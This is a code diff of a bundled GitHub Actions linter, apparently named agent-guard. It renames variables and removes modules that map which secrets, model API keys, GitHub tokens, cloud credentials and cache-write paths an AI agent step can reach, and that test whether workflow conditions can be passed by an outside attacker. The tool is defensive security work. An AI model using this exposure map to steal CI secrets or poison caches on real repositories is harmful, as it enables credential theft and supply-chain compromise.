-      const args = e.args.map((a) => evaluate(a, scope, depth));
+      const args = e.args.map((a) => evaluate2(a, scope, depth));
       if (args.some((a) => !a)) return null;
       const first = (i) => args[i][0];
       const name = e.name.toLowerCase();
@@ -21683,7 +21471,7 @@ function originalCase(lower, scope) {
   }
   return lower;
 }
-function truthy(v) {
+function truthy2(v) {
   return !(v === null || v === false || v === "" || v === 0 || typeof v === "number" && Number.isNaN(v));
 }
 function equal(a, b) {
@@ -21839,7 +21627,7 @@ function joinUnique(parts) {
 // src/analysis/shellScanner.ts
 var RESERVED_PREFIX = /* @__PURE__ */ new Set(["if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "coproc"]);
 var RESERVED_END = /* @__PURE__ */ new Set(["fi", "done", "esac", "}"]);
-var SHELLS2 = /* @__PURE__ */ new Set(["bash", "sh", "zsh", "dash", "ksh", "ash"]);
+var SHELLS = /* @__PURE__ */ new Set(["bash", "sh", "zsh", "dash", "ksh", "ash"]);
 var PYTHONS = /^(python|python3|python3\.\d+|python2|py|pypy3?)$/;
 var ASSIGNMENT2 = /^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/;
 var MAX_DEPTH3 = 6;
@@ -22685,7 +22473,7 @@ var Scanner = class _Scanner {
       }
       return;
     }
-    if (SHELLS2.has(name)) {
+    if (SHELLS.has(name)) {
       const args = words.slice(i + 1);
       let cFlag = false;
       for (let k = 0; k < args.length; k++) {
@@ -22798,231 +22586,15 @@ function packageName(spec) {
   return s.toLowerCase();
 }
 
-// src/analysis/capabilities.ts
-var HOSTED_RUNNER = /^(ubuntu|windows|macos)-|^(ubuntu|windows|macos)$/i;
-var MODEL_KEY_NAME = /(ANTHROPIC|CLAUDE|OPENAI|GEMINI|GOOGLE_API|QWEN|DASHSCOPE|OPENROUTER|MISTRAL|GROQ|DEEPSEEK|COHERE|XAI|OPENCODE|CURSOR|FACTORY|WARP|AMP|LLM|AI)_?(API_?)?(KEY|TOKEN)|OAUTH_TOKEN/i;
-function looksLikeModelKey(name) {
-  return MODEL_KEY_NAME.test(name);
-}
-var TOKEN_ENV = /^(GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GH_PAT|GH_ENTERPRISE_TOKEN|GITHUB_PERSONAL_ACCESS_TOKEN|COPILOT_GITHUB_TOKEN)$/;
-function secretRefs(node, within, depth = 0) {
-  const out = { secrets: [], githubToken: false };
-  const visit = (n) => {
-    if (!n) return;
-    if (n.kind === "map") return n.pairs.forEach((p) => visit(p.value));
-    if (n.kind === "seq") return n.items.forEach(visit);
-    if (typeof n.value !== "string") return;
-    const inner = textSecretRefs(n.text, within, depth);
-    out.secrets.push(...inner.secrets);
-    out.githubToken ||= inner.githubToken;
-  };
-  visit(node);
-  return out;
-}
-function textSecretRefs(text, within, depth) {
-  const out = { secrets: [], githubToken: false };
-  if (!text.includes("${{")) return out;
-  for (const t of findTemplates(text)) {
-    for (const r of referencesOf(t.inner) ?? []) {
-      if (r.path === "github.token" || r.path === "secrets.github_token") out.githubToken = true;
-      else if (r.path.startsWith("secrets.") && r.path.length > 8) out.secrets.push(r.path.slice(8).toUpperCase());
-      else if (r.path === "secrets" || r.path === "secrets.*") out.secrets.push("*");
-      else if (r.path.startsWith("inputs.") && within?.frame && depth < 8) {
-        const given = inputOf(within.frame.callerStep.step.with, r.path.slice(7));
-        const inner = secretRefs(given?.value, within.frame.callerStep, depth + 1);
-        out.secrets.push(...inner.secrets);
-        out.githubToken ||= inner.githubToken;
-      }
-    }
-  }
-  return out;
-}
-function envLines(text) {
-  const out = [];
-  for (const line of text.split("\n")) {
-    const m = /^\s*([A-Za-z_][A-Za-z0-9_]*)\s*[:=]\s*(.*?)\s*$/.exec(line);
-    if (m) out.push({ name: m[1], value: m[2] });
-  }
-  return out;
-}
-function writeScopesOf(permissions) {
-  if (!permissions) return { scopes: ["*"], isDefault: true, idToken: false };
-  if (permissions.all === "write") return { scopes: ["*"], isDefault: false, idToken: true };
-  const scopes = Object.entries(permissions.scopes).filter(([scope, level]) => level === "write" && scope !== "id-token").map(([scope]) => scope);
-  return { scopes, isDefault: false, idToken: permissions.scopes["id-token"] === "write" };
-}
-var RUN_SCRIPT = { shell: "full", network: true, writesFiles: true };
-function shellCapabilities(step) {
-  return capabilitiesAt(step, { keyEnv: [] }, RUN_SCRIPT, false);
-}
-function capabilitiesAt(step, agent, tools, jailed, grants = []) {
-  const secrets = [];
-  const tokens = [];
-  const keyInputs = new Set((agent.action?.keyInputs ?? []).map((i) => i.toLowerCase()));
-  const tokenInputs = new Set((agent.action?.tokenInputs ?? []).map((i) => i.toLowerCase()));
-  const isModelKey = (name, secret) => agent.keyEnv.includes(name) || keyInputs.has(name.toLowerCase()) || MODEL_KEY_NAME.test(secret) || MODEL_KEY_NAME.test(name);
-  const envLayers = [
-    { entries: step.step.env, where: "env", within: step },
-    ...framesOf(step).map((caller) => ({ entries: caller.step.env, where: `env of step '${caller.step.label}'`, within: caller })),
-    { entries: step.job.job.env, where: "job env", within: step },
-    { entries: step.job.workflow.env, where: "workflow env", within: step }
-  ];
-  for (const layer of envLayers) {
-    for (const entry of layer.entries) {
-      const refs = secretRefs(entry.value, layer.within);
-      for (const s of refs.secrets) secrets.push({ name: s, via: `${layer.where} ${entry.name}`, modelKey: isModelKey(entry.name, s) });
-      const tokenVar = TOKEN_ENV.test(entry.name) && entry.value.kind === "scalar" && entry.value.text.trim() !== "";
-      if (refs.githubToken || tokenVar) {
-        tokens.push({ via: `${layer.where} ${entry.name}`, foreign: !refs.githubToken });
-      }
-    }
-  }
-  const envInputs = new Set((agent.action?.envInputs ?? []).map((i) => i.toLowerCase()));
-  for (const input of step.step.with) {
-    if (envInputs.has(input.name.toLowerCase())) {
-      for (const line of envLines(input.text)) {
-        const refs2 = textSecretRefs(line.value, step, 0);
-        for (const s of refs2.secrets) secrets.push({ name: s, via: `input ${input.name} ${line.name}`, modelKey: isModelKey(line.name, s) });
-        if (refs2.githubToken || TOKEN_ENV.test(line.name) && line.value !== "" && line.value !== "''") tokens.push({ via: `input ${input.name} ${line.name}`, foreign: !refs2.githubToken });
-      }
-      continue;
-    }
-    const refs = secretRefs(input.value, step);
-    for (const s of refs.secrets) {
-      const token = tokenInputs.has(input.name.toLowerCase()) || TOKEN_ENV.test(s);
-      if (token) tokens.push({ via: `input ${input.name}`, foreign: true });
-      else secrets.push({ name: s, via: `input ${input.name}`, modelKey: isModelKey(input.name, s) });
-    }
-    if (refs.githubToken && tokenInputs.has(input.name.toLowerCase())) tokens.push({ via: `input ${input.name}`, foreign: false });
-  }
-  if (agent.action?.tokenInputs?.length && !tokens.some((t) => t.via.startsWith("input"))) {
-    tokens.push({ via: "the default github.token", foreign: false });
-  }
-  const inherited = step.job.caller?.secrets;
-  if (inherited === "inherit") secrets.push({ name: "*", via: "secrets: inherit from the caller", modelKey: false });
-  if (tools.shell === "full" && !isSelfHosted(step)) {
-    const known = new Set(secrets.map((s) => s.name));
-    for (const { name, label } of jobSecrets(step.job)) {
-      if (known.has(name)) continue;
-      known.add(name);
-      secrets.push({ name, via: `the runner's memory (used by step '${label}')`, modelKey: MODEL_KEY_NAME.test(name) });
-    }
-    tokens.push({ via: "the runner's memory (a shell with sudo reads the job's GITHUB_TOKEN)", foreign: false });
-  }
-  const cloud = cloudLogins(step);
-  const persisted = persistedCheckout(step);
-  if (persisted) tokens.push({ via: "credentials persisted in .git/config by actions/checkout", foreign: false });
-  const perms = writeScopesOf(step.job.permissions);
-  const keyInProcess = agent.keyInProcess ?? true;
-  const commands = jailed ? [] : commandsInReach(step, agent.action, tokens.length > 0, perms.scopes);
-  return {
-    secrets: jailed ? [] : secrets,
-    tokens: jailed ? [] : tokens,
-    writeScopes: perms.scopes,
-    permissionsDefault: perms.isDefault,
-    idToken: perms.idToken && !jailed,
-    cloudCredentials: jailed ? [] : cloud,
-    selfHosted: isSelfHosted(step),
-    persistedCredentials: persisted && !jailed,
-    tools: jailed ? { ...tools, network: false } : tools,
-    keyInProcess: keyInProcess && !jailed,
-    jailed,
-    grants: jailed ? grants : [],
-    ...commands.length ? { commands } : {}
-  };
-}
-function commandsInReach(step, action, hasToken, scopes) {
-  const surface = action?.commandSurface;
-  if (!surface || !hasToken || !step.job.triggers.some((t) => surface.events.includes(t.event))) return [];
-  return surface.commands.filter((c) => c.writes.some((w) => scopes.includes("*") || scopes.includes(w)));
-}
-var jobSecretsMemo = /* @__PURE__ */ new WeakMap();
-function jobSecrets(job) {
-  let known = jobSecretsMemo.get(job);
-  if (known) return known;
-  known = [];
-  const seen = /* @__PURE__ */ new Set();
-  for (const other of job.steps) {
-    for (const name of stepSecrets(other)) {
-      if (seen.has(name)) continue;
-      seen.add(name);
-      known.push({ name, label: other.step.label });
-    }
-  }
-  jobSecretsMemo.set(job, known);
-  return known;
-}
-function stepSecrets(step) {
-  const out = [];
-  const nodes = [...step.step.with.map((w) => w.value), ...step.step.env.map((e) => e.value), step.step.run];
-  for (const n of nodes) out.push(...secretRefs(n).secrets);
-  return out.filter((s) => s !== "*" && s !== "GITHUB_TOKEN");
-}
-function framesOf(step) {
-  const out = [];
-  for (let f = step.frame; f; f = f.callerStep.frame) out.push(f.callerStep);
-  return out;
-}
-function isSelfHosted(step) {
-  const labels = step.job.job.runsOn;
-  if (!labels.length) return false;
-  if (labels.some((l) => l.includes("${{"))) return false;
-  return labels.some((l) => /self-hosted/i.test(l)) || !labels.some((l) => HOSTED_RUNNER.test(l));
-}
-var CLOUD_LOGINS = [
-  { uses: /^google-github-actions\/auth@/i, leaves: "GCP credentials (gha-creds-*.json in the workspace, GOOGLE_APPLICATION_CREDENTIALS)" },
-  { uses: /^aws-actions\/configure-aws-credentials@/i, leaves: "AWS credentials (AWS_ACCESS_KEY_ID/AWS_SESSION_TOKEN in the environment)" },
-  { uses: /^azure\/login@/i, leaves: "Azure credentials (the az CLI token cache in HOME)" }
-];
-function cloudLogins(step) {
-  const out = [];
-  const own = step.step.with.find((w) => /workload_identity_provider|workload-identity-provider|role-to-assume/i.test(w.name) && w.text.trim());
-  if (own) out.push(`cloud credentials minted by this step (input ${own.name})`);
-  for (const s of step.job.steps) {
-    if (s.position >= step.position) break;
-    const hit = CLOUD_LOGINS.find((c) => c.uses.test(s.step.uses?.text ?? ""));
-    if (hit && !out.includes(hit.leaves)) out.push(hit.leaves);
-  }
-  return out;
-}
-function persistedCheckout(step) {
-  return step.job.steps.some((s) => {
-    if (s.position >= step.position) return false;
-    if (!/^actions\/checkout@/i.test(s.step.uses?.text ?? "")) return false;
-    const persist = inputOf(s.step.with, "persist-credentials")?.text;
-    return persist === void 0 || !/^false$/i.test(persist.trim());
-  });
-}
-function describeCapabilities(c) {
-  const out = [];
-  if (c.jailed) out.push("jailed:agent-guard-run");
-  for (const g of c.grants ?? []) out.push(`grant:${g} (through the guard, no token in the agent)`);
-  if (c.remoteAgent) out.push(`remote-agent: ${c.remoteAgent}`);
-  for (const cmd of c.commands ?? []) out.push(`command:${cmd.name} (${cmd.what}; ${cmd.writes.map((w) => `${w}:write`).join(", ")})`);
-  for (const s of c.secrets) out.push(`secret:${s.name}${s.modelKey ? " (model key)" : ""} via ${s.via}`);
-  for (const t of c.tokens) out.push(`github-token:${t.foreign ? "pat-or-app-token" : "GITHUB_TOKEN"} via ${t.via}`);
-  if (c.permissionsDefault) out.push("permissions:default (write-all where the repository default is permissive)");
-  else for (const s of c.writeScopes) out.push(`permission:${s}:write`);
-  if (c.idToken) out.push("permission:id-token:write (OIDC)");
-  for (const cloud of c.cloudCredentials) out.push(`cloud:${cloud}`);
-  if (c.selfHosted) out.push("runner:self-hosted");
-  else if (c.tools.shell === "full" && !c.jailed) out.push("actions-cache:write (poisons caches that release workflows restore)");
-  if (c.tools.shell !== "none") out.push(`shell:${c.tools.shell}`);
-  if (c.tools.network) out.push("network:unrestricted");
-  if (c.tools.writesFiles) out.push("writes-files");
-  if (c.keyInProcess && c.secrets.some((s) => s.modelKey)) out.push("model-key-in-agent-process");
-  return out;
-}
-
 // src/workflow/load.ts
-var import_node_fs3 = __toESM(require("node:fs"));
-var import_node_path2 = __toESM(require("node:path"));
+var import_node_fs = __toESM(require("node:fs"));
+var import_node_path = __toESM(require("node:path"));
 var MAX_FILE_BYTES = 4 * 1024 * 1024;
 var CACHE_SIZE = 64;
 var DISK = {
-  size: (abs) => import_node_fs3.default.statSync(abs).size,
-  read: (abs) => import_node_fs3.default.readFileSync(abs, "utf8"),
-  exists: (abs) => import_node_fs3.default.existsSync(abs)
+  size: (abs) => import_node_fs.default.statSync(abs).size,
+  read: (abs) => import_node_fs.default.readFileSync(abs, "utf8"),
+  exists: (abs) => import_node_fs.default.existsSync(abs)
 };
 function memoryReader(files) {
   const get = (abs) => {
@@ -23032,78 +22604,99 @@ function memoryReader(files) {
   };
   return { size: (abs) => Buffer.byteLength(get(abs)), read: get, exists: (abs) => files.has(abs) };
 }
-var MEMORY_ROOT = import_node_path2.default.resolve("/", "agent-guard-memory");
-function memorySets(files, errors) {
+var MEMORY_ROOT = import_node_path.default.resolve("/", "agent-guard-memory");
+function memorySets(files, notes = []) {
   const memory = /* @__PURE__ */ new Map();
   for (const f of files) {
-    const abs = import_node_path2.default.resolve(MEMORY_ROOT, f.path.replace(/^\/+/, ""));
-    const rel = import_node_path2.default.relative(MEMORY_ROOT, abs);
-    if (rel && !rel.startsWith("..") && !import_node_path2.default.isAbsolute(rel)) memory.set(abs, f.text);
+    const abs = import_node_path.default.resolve(MEMORY_ROOT, f.path.replace(/^\/+/, ""));
+    const rel = import_node_path.default.relative(MEMORY_ROOT, abs);
+    if (rel && !rel.startsWith("..") && !import_node_path.default.isAbsolute(rel)) memory.set(abs, f.text);
   }
-  const workflowsDir = import_node_path2.default.join(MEMORY_ROOT, ".github", "workflows");
-  const workflows = [...memory.keys()].filter((abs) => import_node_path2.default.dirname(abs) === workflowsDir && WORKFLOW_EXT.test(abs)).sort();
+  const workflowsDir = import_node_path.default.join(MEMORY_ROOT, ".github", "workflows");
+  const workflows = [...memory.keys()].filter((abs) => import_node_path.default.dirname(abs) === workflowsDir && WORKFLOW_EXT.test(abs)).sort();
   if (!workflows.length) {
-    errors.push({ file: ".github/workflows", line: 1, column: 1, message: "no workflow files found (looked for .github/workflows/*.yml)" });
+    notes.push(nothingToLint("the repository"));
     return [];
   }
   return [{ root: MEMORY_ROOT, files: workflows, memory }];
 }
 var WORKFLOW_EXT = /\.ya?ml$/i;
-function discover(paths, errors) {
+function nothingToLint(where) {
+  return `nothing to lint: no workflow files in ${where} (looked for .github/workflows/*.yml)`;
+}
+function discover(paths, errors, notes = [], cwd = process.cwd()) {
   const sets = [];
   for (const given of paths.length ? paths : ["."]) {
-    const abs = import_node_path2.default.resolve(given);
+    const abs = import_node_path.default.resolve(given);
     let stat;
     try {
-      stat = import_node_fs3.default.statSync(abs);
+      stat = import_node_fs.default.statSync(abs);
     } catch {
       errors.push({ file: given, line: 1, column: 1, message: "no such file or directory" });
       continue;
     }
     if (stat.isFile()) {
-      sets.push({ root: guessRoot(import_node_path2.default.dirname(abs)), files: [abs] });
+      sets.push({ root: guessRoot(import_node_path.default.dirname(abs)), files: [abs] });
       continue;
     }
-    const dirs = candidateWorkflowDirs(abs);
-    const files = dirs.flatMap(listYaml);
+    const dir = workflowDir(abs);
+    const files = dir ? listYaml(dir) : [];
     if (!files.length) {
-      errors.push({ file: given, line: 1, column: 1, message: "no workflow files found (looked for .github/workflows/*.yml)" });
+      notes.push(nothingToLint(shownPath(abs, cwd)));
       continue;
     }
-    sets.push({ root: guessRoot(dirs[0]), files });
+    sets.push({ root: guessRoot(dir), files });
   }
   return sets;
 }
-function candidateWorkflowDirs(dir) {
-  const nested = import_node_path2.default.join(dir, ".github", "workflows");
-  if (isDir(nested)) return [nested];
-  const inGithub = import_node_path2.default.join(dir, "workflows");
-  if (import_node_path2.default.basename(dir) === ".github" && isDir(inGithub)) return [inGithub];
-  return [dir];
+function shownPath(abs, cwd) {
+  const rel = import_node_path.default.relative(cwd, abs);
+  if (rel === "") return ".";
+  return rel.startsWith("..") || import_node_path.default.isAbsolute(rel) ? abs : rel.split(import_node_path.default.sep).join("/");
+}
+function workflowDir(dir) {
+  const nested = import_node_path.default.join(dir, ".github", "workflows");
+  if (isDir(nested)) return nested;
+  if (import_node_path.default.basename(dir) === ".github") return isDir(import_node_path.default.join(dir, "workflows")) ? import_node_path.default.join(dir, "workflows") : void 0;
+  if (import_node_fs.default.existsSync(import_node_path.default.join(dir, ".git")) || isDir(import_node_path.default.join(dir, ".github"))) return void 0;
+  return dir;
 }
 function guessRoot(dir) {
-  if (import_node_path2.default.basename(dir) === "workflows" && import_node_path2.default.basename(import_node_path2.default.dirname(dir)) === ".github") {
-    return import_node_path2.default.dirname(import_node_path2.default.dirname(dir));
+  if (import_node_path.default.basename(dir) === "workflows" && import_node_path.default.basename(import_node_path.default.dirname(dir)) === ".github") {
+    return import_node_path.default.dirname(import_node_path.default.dirname(dir));
   }
-  if (import_node_path2.default.basename(dir) === ".github") return import_node_path2.default.dirname(dir);
+  if (import_node_path.default.basename(dir) === ".github") return import_node_path.default.dirname(dir);
   return dir;
 }
 function isDir(p) {
   try {
-    return import_node_fs3.default.statSync(p).isDirectory();
+    return import_node_fs.default.statSync(p).isDirectory();
   } catch {
     return false;
   }
 }
 function listYaml(dir) {
   try {
-    return import_node_fs3.default.readdirSync(dir, { withFileTypes: true }).filter((d) => d.isFile() && WORKFLOW_EXT.test(d.name)).map((d) => import_node_path2.default.join(dir, d.name)).sort();
+    return import_node_fs.default.readdirSync(dir, { withFileTypes: true }).filter((d) => d.isFile() && WORKFLOW_EXT.test(d.name)).map((d) => import_node_path.default.join(dir, d.name)).sort();
   } catch {
     return [];
   }
 }
 var TOP_NAME = /^name:[ \t]*(?:"([^"]*)"|'([^']*)'|([^#\n]*?))[ \t]*(?:#.*)?$/m;
 var LOCAL_USES = /\buses:[ \t]*["']?(\.\/[^\s"'#]+)/g;
+function enclosingRepository(dir) {
+  for (let at = import_node_path.default.resolve(dir); ; at = import_node_path.default.dirname(at)) {
+    if (import_node_fs.default.existsSync(import_node_path.default.join(at, ".git"))) return at;
+    if (import_node_path.default.dirname(at) === at) return void 0;
+  }
+}
+function reportRoot(sets, fallback) {
+  const roots = sets.filter((s) => !s.memory).map((s) => enclosingRepository(s.root) ?? s.root);
+  if (!roots.length) return import_node_path.default.resolve(fallback);
+  let common = roots[0];
+  for (const r of roots.slice(1)) while (import_node_path.default.relative(common, r).startsWith("..")) common = import_node_path.default.dirname(common);
+  return common;
+}
 function openRepository(set, cwd = process.cwd(), remote) {
   const reader = set.memory ? memoryReader(set.memory) : DISK;
   if (set.memory) cwd = set.root;
@@ -23113,8 +22706,8 @@ function openRepository(set, cwd = process.cwd(), remote) {
   const texts = /* @__PURE__ */ new Map();
   const remoteTexts = /* @__PURE__ */ new Map();
   const display = (abs) => {
-    const rel = import_node_path2.default.relative(cwd, abs);
-    return rel && !rel.startsWith("..") && !import_node_path2.default.isAbsolute(rel) ? rel : abs;
+    const rel = import_node_path.default.relative(cwd, abs);
+    return rel && !rel.startsWith("..") && !import_node_path.default.isAbsolute(rel) ? rel : abs;
   };
   const repo = {
     root: set.root,
@@ -23128,7 +22721,7 @@ function openRepository(set, cwd = process.cwd(), remote) {
     remote,
     remoteCache: /* @__PURE__ */ new Map(),
     reader,
-    text: (shown2) => texts.get(shown2) ?? remoteTexts.get(shown2) ?? set.memory?.get(import_node_path2.default.resolve(set.root, shown2)),
+    text: (shown2) => texts.get(shown2) ?? remoteTexts.get(shown2) ?? set.memory?.get(import_node_path.default.resolve(set.root, shown2)),
     workflow(abs) {
       if (cache2.has(abs)) {
         const hit = cache2.get(abs) ?? null;
@@ -23155,7 +22748,7 @@ function openRepository(set, cwd = process.cwd(), remote) {
     },
     *byName(name) {
       for (const f of repo.files) {
-        if (f.name !== name && import_node_path2.default.basename(f.abs) !== name) continue;
+        if (f.name !== name && import_node_path.default.basename(f.abs) !== name) continue;
         const workflow = repo.workflow(f.abs);
         if (workflow) yield workflow;
       }
@@ -23224,9 +22817,9 @@ function reportProblems(repo, file, problems) {
 }
 function localPath(repo, uses) {
   if (!uses.startsWith("./")) return null;
-  const target = import_node_path2.default.resolve(repo.root, uses.replace(/@.*$/, ""));
-  const rel = import_node_path2.default.relative(repo.root, target);
-  if (rel.startsWith("..") || import_node_path2.default.isAbsolute(rel)) return null;
+  const target = import_node_path.default.resolve(repo.root, uses.replace(/@.*$/, ""));
+  const rel = import_node_path.default.relative(repo.root, target);
+  if (rel.startsWith("..") || import_node_path.default.isAbsolute(rel)) return null;
   return target;
 }
 function resolveLocalAction(repo, uses) {
@@ -23234,7 +22827,7 @@ function resolveLocalAction(repo, uses) {
   if (!dir) return null;
   if (repo.actions.has(dir)) return repo.actions.get(dir) ?? null;
   repo.actions.set(dir, null);
-  const file = ["action.yml", "action.yaml"].map((n) => import_node_path2.default.join(dir, n)).find((p) => (repo.reader ?? DISK).exists(p));
+  const file = ["action.yml", "action.yaml"].map((n) => import_node_path.default.join(dir, n)).find((p) => (repo.reader ?? DISK).exists(p));
   if (!file) return null;
   const loaded = readYamlFile(repo, file, /* @__PURE__ */ new Set(), /* @__PURE__ */ new Map());
   if (!loaded) return null;
@@ -23288,322 +22881,6 @@ function effectiveWorkflowUses(uses, from) {
 function resolveCalledWorkflow(repo, uses, from) {
   const target = effectiveWorkflowUses(uses, from);
   return target.startsWith("./") ? resolveLocalWorkflow(repo, target) : resolveRemoteWorkflow(repo, target);
-}
-
-// src/analysis/gates.ts
-var ANY = { k: "any" };
-var BOTH = { k: "bool", t: true, f: true };
-var TRUE = { k: "bool", t: true, f: false };
-var FALSE = { k: "bool", t: false, f: true };
-var OUTSIDER_ASSOCIATIONS = ["none", "contributor", "first_time_contributor", "first_timer", "mannequin"];
-var OBJECT_ROLES = {
-  issue: "issue",
-  comment: "comment",
-  pull_request: "pull_request",
-  review: "review",
-  discussion: "discussion",
-  workflow_run: "workflow_run",
-  head_commit: "commit"
-};
-function parseCondition(node) {
-  if (!node) return null;
-  const text = node.text.trim();
-  if (!text) return null;
-  const templates = findTemplates(text);
-  let source = text;
-  if (templates.length) {
-    if (templates.length !== 1 || templates[0].start !== 0 || templates[0].end !== text.length) return null;
-    source = templates[0].inner;
-  }
-  if (source.length > GITHUB_MAX_EXPRESSION_LENGTH) return null;
-  const parsed = tryParseExpression(source);
-  return parsed instanceof Error ? null : parsed;
-}
-function canPass(condition, scenario2) {
-  if (!condition) return true;
-  try {
-    return truthy2(evaluate2(condition, scenario2)).t;
-  } catch (err) {
-    if (err instanceof RangeError) return true;
-    throw err;
-  }
-}
-function truthy2(v) {
-  switch (v.k) {
-    case "bool":
-      return v;
-    case "strs":
-      return { t: v.v.some((s) => s !== "" && s !== "false" && s !== "0"), f: v.v.some((s) => s === "" || s === "0") };
-    case "array":
-    case "login":
-    case "repo":
-    case "forkRepo":
-      return { t: true, f: false };
-    default:
-      return { t: true, f: true };
-  }
-}
-function evaluate2(e, s) {
-  switch (e.kind) {
-    case "literal":
-      if (e.value === null) return { k: "strs", v: [""] };
-      if (typeof e.value === "boolean") return e.value ? TRUE : FALSE;
-      return { k: "strs", v: [String(e.value).toLowerCase()] };
-    case "unary": {
-      const t = truthy2(evaluate2(e.operand, s));
-      return { k: "bool", t: t.f, f: t.t };
-    }
-    case "binary":
-      return binary(e.op, e.left, e.right, s);
-    case "call":
-      return call(e.name, e.args, s);
-    default: {
-      const path21 = accessPath(e);
-      return path21 ? contextValue(path21, s) : ANY;
-    }
-  }
-}
-function binary(op, left, right, s) {
-  if (op === "&&") {
-    const l2 = truthy2(evaluate2(left, s));
-    const r2 = truthy2(evaluate2(right, s));
-    return { k: "bool", t: l2.t && r2.t, f: l2.f || r2.f };
-  }
-  if (op === "||") {
-    const l2 = truthy2(evaluate2(left, s));
-    const r2 = truthy2(evaluate2(right, s));
-    return { k: "bool", t: l2.t || r2.t, f: l2.f && r2.f };
-  }
-  const l = evaluate2(left, s);
-  const r = evaluate2(right, s);
-  if (op === "==") return equals(l, r, s);
-  if (op === "!=") {
-    const eq = equals(l, r, s);
-    return { k: "bool", t: eq.f, f: eq.t };
-  }
-  return BOTH;
-}
-function equals(a, b, s) {
-  if (a.k === "any" || b.k === "any") return BOTH;
-  if (b.k === "login" || b.k === "forkRepo" || b.k === "repo" && a.k !== "login" && a.k !== "forkRepo") [a, b] = [b, a];
-  if (a.k === "login") {
-    if (b.k === "strs") return { k: "bool", t: b.v.some((v) => isBotLogin(v) && !s?.trustedBots?.has(v)), f: true };
-    return BOTH;
-  }
-  if (a.k === "forkRepo") return b.k === "repo" ? FALSE : BOTH;
-  if (a.k === "repo") return b.k === "repo" ? TRUE : BOTH;
-  if (a.k === "strs" && b.k === "strs") {
-    const t = a.v.some((x) => b.v.includes(x));
-    const f = !(a.v.length === 1 && b.v.length === 1 && a.v[0] === b.v[0]);
-    return { k: "bool", t, f };
-  }
-  if (a.k === "bool" && b.k === "bool") return { k: "bool", t: a.t && b.t || a.f && b.f, f: a.t && b.f || a.f && b.t };
-  if (a.k === "bool" && b.k === "strs") return boolVsStrings(a, b.v);
-  if (b.k === "bool" && a.k === "strs") return boolVsStrings(b, a.v);
-  return BOTH;
-}
-function boolVsStrings(a, strs) {
-  const t = a.t && strs.includes("1") || a.f && strs.some((x) => x === "0" || x === "");
-  return { k: "bool", t, f: true };
-}
-function isBotLogin(login) {
-  return login.endsWith("[bot]");
-}
-function call(name, args, s) {
-  switch (name) {
-    case "success":
-    case "failure":
-    case "cancelled":
-      return BOTH;
-    case "always":
-      return TRUE;
-    case "fromjson": {
-      const arg = args[0] && evaluate2(args[0], s);
-      if (arg?.k === "strs" && arg.v.length === 1) return fromJsonLiteral(arg.v[0]);
-      return ANY;
-    }
-    case "contains": {
-      if (args.length !== 2) return BOTH;
-      const hay = evaluate2(args[0], s);
-      const needle = evaluate2(args[1], s);
-      if (hay.k === "array") {
-        const results = hay.items.map((item) => equals(item, needle, s));
-        return { k: "bool", t: results.some((r) => r.t), f: results.every((r) => r.f) };
-      }
-      if (hay.k === "strs" && needle.k === "strs") {
-        const t = hay.v.some((h) => needle.v.some((n) => h.includes(n)));
-        const f = hay.v.some((h) => needle.v.some((n) => !h.includes(n)));
-        return { k: "bool", t, f };
-      }
-      return BOTH;
-    }
-    case "startswith":
-    case "endswith": {
-      const a = args[0] && evaluate2(args[0], s);
-      const b = args[1] && evaluate2(args[1], s);
-      if (a?.k === "strs" && b?.k === "strs") {
-        const test = (x, y) => name === "startswith" ? x.startsWith(y) : x.endsWith(y);
-        return { k: "bool", t: a.v.some((x) => b.v.some((y) => test(x, y))), f: a.v.some((x) => b.v.some((y) => !test(x, y))) };
-      }
-      return BOTH;
-    }
-    default:
-      return ANY;
-  }
-}
-function fromJsonLiteral(text) {
-  try {
-    return jsonToValue(JSON.parse(text));
-  } catch {
-    return ANY;
-  }
-}
-function jsonToValue(v) {
-  if (Array.isArray(v)) return { k: "array", items: v.map(jsonToValue) };
-  if (typeof v === "boolean") return v ? TRUE : FALSE;
-  if (v === null) return { k: "strs", v: [""] };
-  if (typeof v === "string" || typeof v === "number") return { k: "strs", v: [String(v).toLowerCase()] };
-  return ANY;
-}
-function contextValue(path21, s) {
-  const attacked = (role) => s.attacker.has(role);
-  switch (path21) {
-    case "github.event_name":
-      return { k: "strs", v: [s.event] };
-    case "github.event.action":
-      return s.actions.allowed ? { k: "strs", v: s.actions.allowed } : ANY;
-    case "github.actor":
-    case "github.triggering_actor":
-    case "github.event.sender.login":
-      return attacked("actor") ? { k: "login" } : ANY;
-    case "github.repository":
-      return { k: "repo" };
-    case "github.event.label.name":
-      return attacked("actor") ? { k: "strs", v: [""] } : ANY;
-    case "github.event.pull_request.head.repo.fork":
-      return attacked("pull_request") ? TRUE : ANY;
-    case "github.event.pull_request.head.repo.full_name":
-    case "github.event.pull_request.head.label":
-      return attacked("pull_request") ? { k: "forkRepo" } : ANY;
-    case "github.event.workflow_run.head_repository.full_name":
-      return attacked("workflow_run") ? { k: "forkRepo" } : ANY;
-    case "github.event.workflow_run.head_repository.fork":
-      return attacked("workflow_run") ? TRUE : ANY;
-    case "github.event.workflow_run.actor.login":
-    case "github.event.workflow_run.triggering_actor.login":
-      return attacked("workflow_run") ? { k: "login" } : ANY;
-    case "github.event.head_commit.author.name":
-    case "github.event.head_commit.author.username":
-    case "github.event.head_commit.committer.username":
-      return attacked("commit") ? { k: "login" } : ANY;
-  }
-  const parts = path21.split(".");
-  if (parts[0] === "github" && parts[1] === "event" && parts.length >= 4) {
-    const role = OBJECT_ROLES[parts[2]];
-    const rest = parts.slice(3).join(".");
-    if (role) {
-      if (rest === "author_association") return attacked(role) ? { k: "strs", v: OUTSIDER_ASSOCIATIONS } : ANY;
-      if (rest === "user.login" || rest === "head.user.login" || rest === "head.repo.owner.login") {
-        return attacked(role) ? { k: "login" } : ANY;
-      }
-    }
-  }
-  if (parts[0] === "steps" && parts.length >= 3 && s.permissionSteps.has(parts[1]) && attacked("actor")) {
-    return NOT_PERMITTED;
-  }
-  if (parts[0] === "needs" && parts.length >= 3 && s.permissionJobs.has(parts[1]) && attacked("actor")) {
-    return NOT_PERMITTED;
-  }
-  return ANY;
-}
-var NOT_PERMITTED = { k: "strs", v: ["", "false", "none", "read", "triage", "failure", "skipped"] };
-
-// src/analysis/triggers.ts
-var ACTOR_ROLES = {
-  issues: ["issue"],
-  issue_comment: ["comment"],
-  discussion: ["discussion"],
-  discussion_comment: ["comment"],
-  pull_request: ["pull_request", "commit"],
-  pull_request_target: ["pull_request", "commit"],
-  pull_request_review: ["review"],
